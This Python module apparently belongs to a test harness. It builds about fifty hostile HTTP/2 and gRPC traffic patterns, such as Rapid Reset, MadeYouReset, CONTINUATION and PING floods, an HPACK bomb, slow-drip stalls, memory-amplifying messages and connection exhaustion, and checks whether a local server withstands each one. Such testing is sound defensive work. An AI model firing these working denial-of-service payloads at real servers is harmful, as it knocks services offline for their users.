"""The hostile patterns (K12), each with what makes it hostile.

A pattern is a function of the socket's path that returns how it ended. Floods come in pieces of
some hundred frames, so that not the attacker's Python is what is slow.
"""

import socket
import time

from attacker import Attacker, Contained, attack
from wire import (
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HANDSHAKE, HEADERS, PADDED, PING,
    PREFACE, PRIORITY, PUSH_PROMISE, RST_STREAM, SETTINGS, WINDOW_UPDATE, Wire, block, frame,
    headers, message, request, settings, string, varint, window_update,
)

INVALID_ARGUMENT = 3
PIECE = 400
RESET = b"\0\0\0\x08"
GOOD = block(request())
REFLECTION = request("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")

PATTERNS = {}
# Those that are cut off by a clock, and so can all be watched at the same time.
PATIENT_PATTERNS = {}


def pattern(function):
    """Adds what a function makes; its name and its words are the pattern's."""
    PATTERNS[function.__name__] = function()
    return function


def patient_pattern(function):
    """Adds a pattern that mostly waits."""
    PATIENT_PATTERNS[function.__name__] = function()
    return function


def streams(number):
    """The ids of the streams of piece `number`."""
    first = 1 + 2 * PIECE * number
    return range(first, first + 2 * PIECE, 2)


def flood(one, start=b""):
    """The same frame over and over."""
    piece = one * PIECE
    return attack(HANDSHAKE + start, lambda number: piece)


# Streams that cost the server work and the attacker nothing.

@pattern
def rapid_reset():
    """CVE-2023-44487: calls that are given up as soon as they are made."""
    return attack(HANDSHAKE, lambda number: b"".join(
        headers(id) + frame(RST_STREAM, stream=id, payload=RESET) for id in streams(number)))


@pattern
def rapid_reset_of_whole_calls():
    """The same, but each call has its message, so that it reaches its handler."""
    body = message()
    return attack(HANDSHAKE, lambda number: b"".join(
        headers(id, REFLECTION) + frame(DATA, stream=id, payload=body)
        + frame(RST_STREAM, stream=id, payload=RESET) for id in streams(number)))


@pattern
def made_you_reset():
    """CVE-2025-8671: calls that the server must reset, since their window grows by 0."""
    return attack(HANDSHAKE, lambda number: b"".join(
        headers(id) + window_update(id, 0) for id in streams(number)))


@pattern
def malformed_requests():
    """Requests that break the rules of HTTP, each answered with a reset."""
    fields = request(without=[":path"])
    return attack(HANDSHAKE, lambda number: b"".join(
        headers(id, fields, end=True) for id in streams(number)))


@pattern
def refused_streams():
    """Streams far beyond those allowed at once, none of which ends."""
    return attack(HANDSHAKE, lambda number: b"".join(headers(id) for id in streams(number)))


@pattern
def data_on_closed_streams():
    """DATA that goes on after the stream was reset."""
    one = frame(DATA, stream=1, payload=b"x" * 50)
    return flood(one, headers(1) + frame(RST_STREAM, stream=1, payload=RESET))


# Control frames without purpose.

@pattern
def settings_flood():
    """CVE-2019-9515: each SETTINGS wants an acknowledgement."""
    return flood(settings(initial_window_size=65_535))


@pattern
def settings_acknowledgement_flood():
    """Acknowledgements of settings that were never sent."""
    return flood(frame(SETTINGS, ACK))


@pattern
def ping_flood():
    """CVE-2019-9512: each PING wants an answer."""
    return flood(frame(PING, payload=b"12345678"))


@pattern
def ping_flood_unread():
    """The same by a peer that does not read the answers, so that they pile up."""
    piece = frame(PING, payload=b"12345678") * PIECE
    return attack(HANDSHAKE, lambda number: piece, reads=False)


@pattern
def ping_answer_flood():
    """Answers to PINGs that were never sent."""
    return flood(frame(PING, ACK, payload=b"12345678"))


@pattern
def priority_flood():
    """CVE-2019-9513: streams shuffled to and fro."""
    return flood(frame(PRIORITY, stream=101, payload=b"\0\0\0\0\x0f"))


@pattern
def window_update_flood():
    """The window of the connection, one byte at a time."""
    return flood(window_update(0, 1))


@pattern
def window_update_flood_on_a_stream():
    """The window of an open stream, one byte at a time."""
    return flood(window_update(1, 1), headers(1, REFLECTION))


@pattern
def unknown_frame_flood():
    """Frames of types that nobody has defined."""
    piece = b"".join(frame(10 + index % 240, payload=b"abc") for index in range(PIECE))
    return attack(HANDSHAKE, lambda number: piece)


@pattern
def goaway_flood():
    """A peer that says goodbye and stays."""
    return flood(frame(GOAWAY, payload=bytes(8)))


# DATA that says nothing.

@pattern
def empty_data_flood():
    """CVE-2019-9518: DATA frames without a byte."""
    return flood(frame(DATA, stream=1), headers(1, REFLECTION))


@pattern
def one_byte_data_flood():
    """A message of 4 MB, one byte a frame."""
    return flood(frame(DATA, stream=1, payload=b"\0"),
                 headers(1, REFLECTION) + frame(DATA, stream=1, payload=b"\0\0\x3f\xff\xff"))


@pattern
def padding_flood():
    """DATA frames of nothing but padding."""
    return flood(frame(DATA, PADDED, 1, bytes([200]) + bytes(200)), headers(1, REFLECTION))


# Headers.

@pattern
def continuation_flood():
    """CVE-2024-27983: a header block that grows and never ends."""
    part = block([("x-filler", "a" * 200)])
    return flood(frame(CONTINUATION, stream=1, payload=part), frame(HEADERS, 0, 1, GOOD))


@pattern
def empty_continuation_flood():
    """The same without a byte."""
    return flood(frame(CONTINUATION, stream=1), frame(HEADERS, 0, 1, GOOD))


@pattern
def hpack_bomb():
    """4 kB in the table, then 4 kB more for every byte."""
    entry = b"\x40" + string(b"x") + string(b"a" * 3_900)
    bomb = frame(HEADERS, END_HEADERS | END_STREAM, 1, GOOD + entry + b"\xbe" * 15_000)
    return attack(HANDSHAKE + bomb, lambda number: b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, id + 2, GOOD + b"\xbe" * 15_000)
        for id in list(streams(number))[:50]))


@patient_pattern
def hpack_table_size_changes():
    """A header block of nothing but changes of the table's size."""
    changes = b"\x20\x3f\xe1\x1f" * 4_000
    return attack(HANDSHAKE + frame(HEADERS, END_HEADERS, 1, changes + GOOD), calls=[1])


@pattern
def many_small_fields():
    """Ten thousand fields of two bytes: small on the wire, not in memory."""
    return attack(HANDSHAKE, lambda number: b"".join(
        frame(HEADERS, END_HEADERS, id, GOOD + b"\0\x01a\x01b" * 3_200)
        for id in list(streams(number))[:20]))


@patient_pattern
def headers_never_ended():
    """A header block that is begun and then forgotten."""
    return attack(HANDSHAKE + frame(HEADERS, 0, 1, GOOD[:20]))


@patient_pattern
def headers_dripped():
    """A frame of headers, a byte every fifth of a second."""
    one = headers(1)
    return attack(HANDSHAKE, lambda number: one[number % len(one):][:1], pause=0.2)


# Bodies.

@patient_pattern
def body_never_ended():
    """A message of which a byte is missing for ever."""
    return attack(HANDSHAKE + headers(1) + frame(DATA, stream=1, payload=message(b"a", length=2)),
                  calls=[1])


@patient_pattern
def body_dripped():
    """A message, a byte every fifth of a second."""
    return attack(HANDSHAKE + headers(1) + frame(DATA, stream=1, payload=message(length=200)),
                  lambda number: frame(DATA, stream=1, payload=b"\x0a"), pause=0.2, calls=[1])


@patient_pattern
def body_never_begun():
    """Every call that is allowed at once, none with a message."""
    ids = range(1, 257, 2)
    return attack(HANDSHAKE + b"".join(headers(id) for id in ids), calls=ids)


# Greetings.

@patient_pattern
def half_a_preface():
    """Five bytes of the preface and silence."""
    return attack(PREFACE[:5])


@patient_pattern
def no_byte_at_all():
    """A connection and silence."""
    return attack(b"")


@patient_pattern
def preface_without_settings():
    """The preface and silence."""
    return attack(PREFACE)


@patient_pattern
def preface_dripped():
    """The greeting, a byte every half second."""
    return attack(b"", lambda number: HANDSHAKE[number:number + 1], pause=0.5)


@patient_pattern
def half_a_frame():
    """A frame of which a byte is missing for ever."""
    return attack(HANDSHAKE + frame(PING, payload=b"1234567", length=8))


@pattern
def garbage():
    """Bytes that mean nothing."""
    return attack(bytes(range(256)) * 400)


@pattern
def http_1():
    """Somebody who took the socket for a web server's."""
    return attack(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")


@pattern
def tls():
    """Somebody who greets in TLS."""
    return attack(bytes.fromhex("16030100c4010000c00303") + bytes(190))


# Frames that cannot be.

@pattern
def enormous_frame():
    """A frame that announces 16 MiB."""
    return attack(HANDSHAKE + frame(DATA, stream=1, length=0xFFFFFF), lambda number: bytes(60_000))


@pattern
def window_overflow():
    """A window of more than 2^31 bytes."""
    return attack(HANDSHAKE + window_update(0, 0x7FFFFFFF) * 2)


@pattern
def push_promise():
    """A client that pushes."""
    return attack(HANDSHAKE + headers(1) + frame(PUSH_PROMISE, END_HEADERS, 1, b"\0\0\0\2" + GOOD))


@pattern
def headers_on_a_stream_of_the_server():
    """A client that opens a stream of an even number."""
    return attack(HANDSHAKE + headers(2))


@pattern
def wrong_settings():
    """A frame size that is not allowed."""
    return attack(HANDSHAKE + settings(max_frame_size=5))


# Peers that do not take what they asked for.

@patient_pattern
def zero_window():
    """A hundred answers asked for and no window to send them in."""
    question = message(b"\x3a\x01*")
    calls = b"".join(headers(id, REFLECTION) + frame(DATA, END_STREAM, id, question)
                     for id in range(1, 201, 2))
    return attack(PREFACE + settings(initial_window_size=0) + frame(SETTINGS, ACK) + calls)


@patient_pattern
def answers_never_read():
    """Large windows, many long answers, and nobody who reads them."""
    file = b"robots/v1/rule_service.proto"
    question = message(b"\x1a" + string(file))
    return attack(
        PREFACE + settings(initial_window_size=0x7FFFFFFF) + frame(SETTINGS, ACK)
        + window_update(0, 0x7FFF0000 - 65_535) + headers(1, REFLECTION),
        lambda number: frame(DATA, stream=1, payload=question * 100), reads=False)


# Memory.

@patient_pattern
def messages_held_back():
    """128 messages of 4 MiB at once, each short of its last byte."""
    ids = range(1, 257, 2)
    start = b"".join(
        headers(id) + frame(DATA, stream=id, payload=message(length=4 << 20)) for id in ids)
    # As much as each window takes at first.
    bodies = b"".join(frame(DATA, stream=id, payload=bytes(16_000)) for id in ids) * 3
    return attack(HANDSHAKE + start + bodies, calls=ids)


@pattern
def amplifying_messages():
    """4 MiB of empty parts, which would be 235 MiB in memory, four times over."""
    def run(path):
        began = time.monotonic()
        fields = 2_000_000
        body = message(b"\x0a" + varint(2 * fields) + b"\x1a\0" * fields)
        with Wire(path) as wire:
            for id in range(1, 9, 2):
                wire.send(headers(id, request("/robots.v1.ExecutionService/PutRecord")))
                send_within_window(wire, id, body)
        return Contained(f"refused in {time.monotonic() - began:.2f} s")
    return run


def send_within_window(wire, id, body):
    """Sends a large message as flow control allows, and insists on a refusal."""
    window = 65_535
    while body:
        part, body = body[:min(window, 16_000)], body[min(window, 16_000):]
        window -= len(part)
        wire.send(frame(DATA, 0 if body else END_STREAM, id, part))
        while window == 0:
            for type, _, stream, payload in wire.frames():
                assert stream != id or type == WINDOW_UPDATE, "the call was ended before its body"
                if stream == id:
                    window += int.from_bytes(payload, "big")
                    break
            else:
                raise AssertionError("the server gives no window")
    answer = wire.answer(id)
    assert answer.status == INVALID_ARGUMENT, answer


# Connections.

@pattern
def ten_thousand_connections():
    """As many connections as can be had, attempted 10,000 times."""
    def run(path):
        kept, began = [], time.monotonic()
        for _ in range(10_000):
            connection = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            connection.settimeout(5)
            if is_greeted(connection, path):
                kept.append(connection)
            else:
                connection.close()
        text = f"{len(kept)} of 10,000 kept in {time.monotonic() - began:.1f} s"
        problem = "more connections than one user may have" if len(kept) > 64 else None
        for connection in kept:
            connection.close()
        return Contained(text, problem)
    return run


def is_greeted(connection, path):
    """Whether the server takes the connection in and says its part of the handshake."""
    try:
        connection.connect(str(path))
        connection.send(HANDSHAKE)
        return bool(connection.recv(1 << 16))
    except OSError:
        return False


@pattern
def connections_in_quick_succession():
    """2,000 greetings one after another, each hung up at once."""
    def run(path):
        began = time.monotonic()
        for _ in range(2_000):
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
                try:
                    connection.connect(str(path))
                    connection.send(HANDSHAKE)
                except OSError:
                    pass
        return Contained(f"2,000 came and went in {time.monotonic() - began:.2f} s")
    return run
